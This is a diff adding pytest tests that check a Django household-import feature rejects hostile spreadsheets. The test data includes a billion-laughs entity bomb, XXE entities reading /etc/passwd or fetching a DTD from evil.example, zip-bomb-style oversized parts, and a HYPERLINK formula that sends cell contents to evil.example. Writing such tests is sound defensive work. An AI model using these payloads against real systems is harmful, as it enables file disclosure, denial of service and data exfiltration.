@@ -245,6 +245,110 @@ def test_byte_limit_is_a_setting(city, login, settings):
     assert not Building.objects.filter(code=f"{A1}0009").exists()
 
 
+# ---- hostile files ------------------------------------------------------------------
+
+def xlsx_with(parts: dict[str, bytes], rows: list[list] = ()) -> bytes:
+    """A valid workbook (the headers and ``rows``) with some of its zip parts replaced or added."""
+    import zipfile
+
+    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(list(rows))))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            if info.filename not in parts:
+                target.writestr(info.filename, source.read(info.filename))
+        for name, data in parts.items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def sheet_xml(first_cell: str, *, doctype: str = "", dimension: str | None = "A1:O2") -> bytes:
+    """A first sheet: the headers, then one row whose first cell is ``first_cell`` (raw XML)."""
+    from openpyxl.utils import get_column_letter
+
+    header = "".join(f'<c r="{get_column_letter(i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
+                     for i, h in enumerate(HEADERS, start=1))
+    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
+            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            + (f'<dimension ref="{dimension}"/>' if dimension else "") + f'<sheetData><row r="1">{header}</row>'
+            f'<row r="2"><c r="A2" t="inlineStr"><is><t>{first_cell}</t></is></c></row>'
+            "</sheetData></worksheet>").encode()
+
+
+LAUGHS = "".join(
+    f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1)) * 10}">' for n in range(1, 10)
+).replace("&lol0;", "lol")
+
+
+@pytest.mark.parametrize(("parts", "what"), [
+    # A billion laughs in the workbook part (parsed when the file is opened).
+    ({"xl/workbook.xml": (f'<?xml version="1.0"?><!DOCTYPE lolz [{LAUGHS}]>'
+                          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                          "<sheets><sheet name=\"&lol9;\" sheetId=\"1\" r:id=\"rId1\" "
+                          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
+                          "</sheets></workbook>").encode()}, "laughs"),
+    # An external entity in a cell (parsed as the rows are read).
+    ({"xl/worksheets/sheet1.xml": sheet_xml(
+        "&xxe;", doctype='<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')}, "xxe"),
+    # The same through a parameter entity.
+    ({"xl/worksheets/sheet1.xml": sheet_xml(
+        "x", doctype='<!DOCTYPE worksheet [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]>')}, "xxe-param"),
+])
+def test_an_xlsx_with_entities_is_refused_and_nothing_is_expanded_or_fetched(city, parts, what):
+    with pytest.raises(ImportRejected) as exc:
+        system_import(xlsx_with(parts), filename="住户.xlsx")
+    assert [str(e) for e in exc.value.errors] == ["无法读取这个 XLSX 文件：它可能已损坏，或并不是 Excel 文件。"], what
+    assert not Household.objects.filter(building__code=f"{A1}0009").exists()
+
+
+def test_shared_strings_and_cells_are_limited_before_the_file_is_read(city, settings):
+    """A few kilobytes of zip that unpack to more shared strings, declared cells or bytes
+    than the settings allow are refused from the zip's parts, before openpyxl reads them."""
+    settings.IMPORT_MAX_CELLS = 1000
+    strings = ('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+               + "<si><t>a</t></si>" * 1001 + "</sst>").encode()
+    with pytest.raises(ImportRejected) as exc:
+        system_import(xlsx_with({"xl/sharedStrings.xml": strings}), filename="住户.xlsx")
+    assert "共享字符串）超过 1000 条" in str(exc.value.errors[0])
+
+    # Exactly at the limit, split across the reader's 1 MB chunks, is fine.
+    settings.IMPORT_MAX_CELLS = 200_000
+    at_limit = ('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                + "<si><t>ab</t></si>" * 200_000 + "</sst>").encode()
+    result = system_import(xlsx_with({"xl/sharedStrings.xml": at_limit}, rows=[list(line().values())]),
+                           filename="住户.xlsx", dry_run=True)
+    assert result.rows == 1
+
+    settings.IMPORT_MAX_CELLS = 1000
+    with pytest.raises(ImportRejected) as exc:
+        system_import(xlsx_with({"xl/worksheets/sheet1.xml": sheet_xml("x", dimension="A1:XFD1048576")}),
+                      filename="住户.xlsx")
+    assert "单元格超过 1000 个" in str(exc.value.errors[0])
+
+    settings.IMPORT_MAX_UNPACKED_BYTES = 100_000
+    padding = b"<!--" + b" " * 200_000 + b"-->"
+    with pytest.raises(ImportRejected) as exc:
+        system_import(xlsx_with({"docProps/custom.xml": padding}), filename="住户.xlsx")
+    assert "解压后超过" in str(exc.value.errors[0])
+
+
+def test_cells_read_are_counted_too(city, settings):
+    """A sheet without a <dimension> declares nothing: the cells are counted as they come."""
+    settings.IMPORT_MAX_CELLS = 15  # the header's 15 cells fit, the data row's one does not
+    data = xlsx_with({"xl/worksheets/sheet1.xml": sheet_xml("x", dimension=None)})
+    with pytest.raises(ImportRejected) as exc:
+        system_import(data, filename="住户.xlsx")
+    assert "单元格超过 15 个" in str(exc.value.errors[0])
+
+
+def test_a_nul_in_a_csv_cell_is_an_error_of_its_row(city):
+    with pytest.raises(ImportRejected) as exc:
+        system_import(csv_bytes([line(), line(房号="302", 联系人="张\x00桂兰")]))
+    [error] = exc.value.errors
+    assert (error.row, error.column) == (3, "联系人") and "空字符" in error.message
+    assert not Household.objects.filter(building__code=f"{A1}0009").exists()
+
+
 # ---- upsert -------------------------------------------------------------------------
 
 def test_existing_households_and_residents_are_updated_and_blank_cells_keep_data(city, login):
@@ -461,3 +565,29 @@ def test_manage_py_exits_non_zero_on_a_rejected_file(tmp_path):
                           env=env, capture_output=True, text=True, timeout=120)
     assert done.returncode == 1, done.stderr
     assert "只能导入 CSV 或 XLSX 文件" in done.stderr
+
+
+def test_a_formula_typed_into_a_cell_imports_as_text_and_exports_as_text(city, login):
+    """A household contact typed as a formula comes back out of export.xlsx as a string
+    cell with the same text (never a live formula), and imports back unchanged."""
+    evil = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'
+    client = login(city.users.community_worker)
+    rows = [line(联系人=evil, 居民姓名="@张桂兰", 与户主关系="-户主+")]
+    response = upload(client, import_url("community", city.comm_a.code), csv_bytes(rows), "a.csv")
+    assert response.status_code == 302
+    household = Household.objects.get(building__code=f"{A1}0009")
+    assert household.contact_name == evil
+    assert household.residents.get().name == "@张桂兰"
+
+    data = b"".join(client.get(export_url("community", city.comm_a.code)).streaming_content)
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == f"{A1}0009")
+    contact, name, relation = row[6], row[9], row[13]
+    assert (contact.value, contact.data_type) == (evil, "s")
+    assert (name.value, name.data_type) == ("@张桂兰", "s")
+    assert (relation.value, relation.data_type) == ("-户主+", "s")
+
+    before = db_snapshot()
+    response = upload(client, import_url("community", city.comm_a.code), data, "export.xlsx")
+    assert response.status_code == 302
+    assert db_snapshot() == before
